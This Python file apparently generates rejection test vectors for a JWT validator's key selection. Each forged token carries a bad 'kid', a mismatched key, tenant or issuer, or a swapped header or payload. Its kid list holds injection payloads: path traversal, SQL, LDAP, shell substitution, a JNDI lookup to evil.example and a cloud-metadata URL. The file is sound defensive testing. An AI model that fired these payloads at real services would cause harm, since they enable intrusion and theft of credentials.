"""Family "key choice": the token names no key, a key that is not there, or one that is not its."""

from collections.abc import Iterator
from typing import Any

from vectors.forging.material import (
    KID,
    OTHER_TENANT,
    PERSONAL_TENANT,
    TENANT,
    Item,
    Part,
    Signer,
    header,
    part,
    person,
    person_v1,
    rs256,
    rsa_key,
    token,
)
from vectors.forging.published import ODD

FAMILY = "key choice"
BOTH = {"tenants": [TENANT, OTHER_TENANT]}
UNPUBLISHED = {
    "unknown": "a-key-nobody-published",
    "upper-case": KID.upper(),
    "leading-space": f" {KID}",
    "trailing-space": f"{KID} ",
    "trailing-nul": f"{KID}\0",
    "trailing-newline": f"{KID}\n",
    "prefix": KID[:-1],
    "suffix": f"{KID}2",
    "percent": KID.replace("-", "%2D"),
    "homoglyph": KID.replace("o", "\u043e"),
    "soft-hyphen": KID.replace("-", "-\u00ad"),
    "decomposed": KID.replace("e", "e\u0301"),
    "path": "../../../../../dev/null",
    "path-absolute": "/dev/null",
    "path-windows": "..\\..\\windows\\win.ini",
    "path-to-key": f"./{KID}",
    "file-url": "file:///etc/passwd",
    "url": "https://evil.example/keys/1",
    "url-of-metadata": "http://169.254.169.254/metadata/identity",
    "sql": "' OR '1'='1",
    "sql-union": "x' UNION SELECT 'AAAA' -- ",
    "ldap": "*)(uid=*))(|(uid=*",
    "shell": "$(touch /tmp/forged)",
    "shell-backticks": "`id`",
    "template": "{{7*7}}",
    "jndi": "${jndi:ldap://evil.example/a}",
    "format": "%s%s%s%n",
    "header-lines": "one\r\nX-Injected: yes",
    "log-line": "one\n2030-01-01 INFO accepted",
    "escape-codes": "\x1b[2J\x1b[31mroot",
    "right-to-left": "\u202eeno-yek",
    "surrogate": "\ud800",
    "wildcard": "*",
    "zero": "0",
    "null-word": "null",
    "dunder": "__class__",
    "prototype": "__proto__",
    "longest": "k" * 256,
}
UNUSABLE: dict[str, Any] = {
    "null": None,
    "empty": "",
    "number": 7,
    "zero-number": 0,
    "true": True,
    "array": [KID],
    "object": {"kid": KID},
    "too-long": "k" * 257,
    "ten-thousand": "k" * 10_000,
    "sixty-four-kib": "k" * 65_536,
}
PASSED_OVER = {
    "weak-key": "an RSA key of 1,024 bits",
    "exponent-one": "an RSA key with the exponent 1",
    "exponent-two": "an RSA key with an even exponent",
    "even-modulus": "an RSA key with an even modulus",
    "endless-key": "an RSA key of 16,384 bits",
    "ec-key": "an elliptic curve key",
    "ed-key": "an Edwards curve key",
}


def items() -> Iterator[Item]:
    yield from _unpublished()
    yield from _unusable()
    yield from _published_for_another_use()
    yield from _of_another_issuer()
    yield from _not_the_key_that_signed()


def _unpublished() -> Iterator[Item]:
    for name, kid in UNPUBLISHED.items():
        reason = f"Nobody publishes this kid ({name}); the signature is good."
        yield _item(name, token(header(kid=kid)), reason, "RFC 8725 3.10")
    text = token(header(kid="not-published", x5t=KID))
    yield _item("only-x5t-known", text, "kid is unknown; x5t names a key.", "RFC 7515 4.1.7")
    text = token(header(kid="forger-key"), sign=rs256(rsa_key("forger")))
    yield _item("of-the-forger", text, "The forger's own key and kid.", "RFC 8725 3.10")


def _unusable() -> Iterator[Item]:
    for name, kid in UNUSABLE.items():
        text, reason = token(header(kid=kid)), f"kid is not a usable name: {name}."
        yield _item(f"kid-{name}", text, reason, "RFC 7515 4.1.4", "TokenMalformed")
    heads = {
        "missing": (header("kid"), "No kid at all."),
        "missing-with-x5t": (header("kid", x5t=KID), "No kid; x5t names the key."),
        "capital": ({"typ": "JWT", "alg": "RS256", "Kid": KID}, "'Kid' is not 'kid'."),
    }
    for name, (head, reason) in heads.items():
        yield _item(f"kid-{name}", token(head), reason, "RFC 7515 4.1.4", "TokenMalformed")


def _published_for_another_use() -> Iterator[Item]:
    for kid, says in ODD.items():
        if kid != "foreign-issuer":
            text = token(header(kid=kid), sign=rs256(rsa_key("odd")))
            reason = f"Signed with a published key whose entry says {says}."
            yield _item(f"odd-{kid}", text, reason, "RFC 7517 4.2")
    for kid, what in PASSED_OVER.items():
        text = token(header(kid=kid), sign=_signer_of(kid))
        yield _item(kid, text, f"Names {what}.", "RFC 8725 3.5")


def _signer_of(kid: str) -> Signer:
    if kid == "weak-key":
        return rs256(rsa_key("weak", bits=1024))
    if kid == "exponent-one":
        return _padded_digest
    return rs256(rsa_key("odd"))


def _padded_digest(message: bytes) -> bytes:
    """With the exponent 1 the padded digest is its own signature."""
    numbers = rsa_key("odd").public_key().public_numbers()
    signed = int.from_bytes(rs256(rsa_key("odd"))(message), "big")
    return pow(signed, numbers.e, numbers.n).to_bytes(256, "big")


def _of_another_issuer() -> Iterator[Item]:
    text = token(header(kid="foreign-issuer"), sign=rs256(rsa_key("odd")))
    reason = "Signed with a published key that belongs to the issuer of personal accounts."
    yield _item("foreign-issuer", text, reason, "Entra, Claims validation")
    iss = f"https://login.microsoftonline.com/{PERSONAL_TENANT}/v2.0"
    text = token(header(kid="foreign-issuer"), person(iss=iss), rs256(rsa_key("odd")))
    reason = "As before, and the issuer is that of the key."
    yield _item("foreign-issuer-and-iss", text, reason, "RFC 8725 3.8", "WrongIssuer")
    text = token(header(kid="v1-key"), sign=rs256(rsa_key("v1")))
    reason = "A v2 token under a key that is published for v1 tokens only."
    yield _item("v1-key-for-v2", text, reason, "Entra, Access tokens")
    text = token(header(kid="v2-key"), person_v1(), rs256(rsa_key("v2")))
    reason = "A v1 token under a key that is published for v2 tokens only."
    yield _item("v2-key-for-v1", text, reason, "Entra, Access tokens")
    theirs = rs256(rsa_key("other"))
    text, reason = token(header(kid="other-key"), sign=theirs), "Signed by a tenant not ours."
    yield _item("other-tenant-unknown", text, reason, "RFC 8725 3.8")
    text = token(header(kid="other-key", typ="jwt"), sign=theirs)
    reason = "Both tenants are allowed; the token of one is signed with the key of the other."
    yield _item("other-tenant-allowed", text, reason, "RFC 8725 3.8", policy=BOTH)
    text = token(header(kid=KID), sign=rs256(rsa_key("other-one")))
    reason = "Both tenants publish this kid; the other one's key signed."
    clause, leaf = "RFC 8725 3.8", "SignatureInvalid"
    yield _item("other-tenant-same-kid", text, reason, clause, leaf, policy=BOTH)
    iss = f"https://login.microsoftonline.com/{OTHER_TENANT}/v2.0"
    body = person(tid=OTHER_TENANT, iss=iss)
    reason = "Both tenants are allowed; the other one's token is signed with our key."
    text = token(header(kid="signing-key-two"), body, rs256(rsa_key("two")))
    yield _item("our-key-for-other-tenant", text, reason, clause, policy=BOTH)


def _not_the_key_that_signed() -> Iterator[Item]:
    pairs: dict[str, tuple[str, str, Part | None]] = {
        "forger-under-our-kid": (KID, "forger", None),
        "two-under-one": (KID, "two", None),
        "one-under-two": ("signing-key-two", "one", None),
        "one-under-v2": ("v2-key", "one", None),
        "forger-under-our-kid-v1": (KID, "forger", person_v1()),
        "forger-other-person": (KID, "forger", person(oid="11111111-3b0a-4a7e-9a43-5d8f21c7e601")),
    }
    for name, (kid, key, body) in pairs.items():
        text = token(header(kid=kid), body, rs256(rsa_key(key)))
        reason = f"The kid is published, but key '{key}' signed."
        yield _item(name, text, reason, "RFC 7515 5.2", "SignatureInvalid")
    head, _, signature = token().split(".")
    other = part(person(oid="22222222-3b0a-4a7e-9a43-5d8f21c7e601"))
    reason = "The payload was exchanged after signing."
    text = f"{head}.{other}.{signature}"
    yield _item("payload-exchanged", text, reason, "RFC 7515 5.2", "SignatureInvalid")
    _, body, signature = token().split(".")
    text = f"{part(header(typ='at+jwt'))}.{body}.{signature}"
    reason = "The header was exchanged after signing."
    yield _item("header-exchanged", text, reason, "RFC 7515 5.2", "SignatureInvalid")


def _item(
    name: str, text: str, reason: str, clause: str,
    expected: str = "SigningKeyUnknown", *, policy: Any = None,
) -> Item:  # fmt: skip
    return Item(f"key-{name}", FAMILY, text, reason, clause, expected, policy or {})
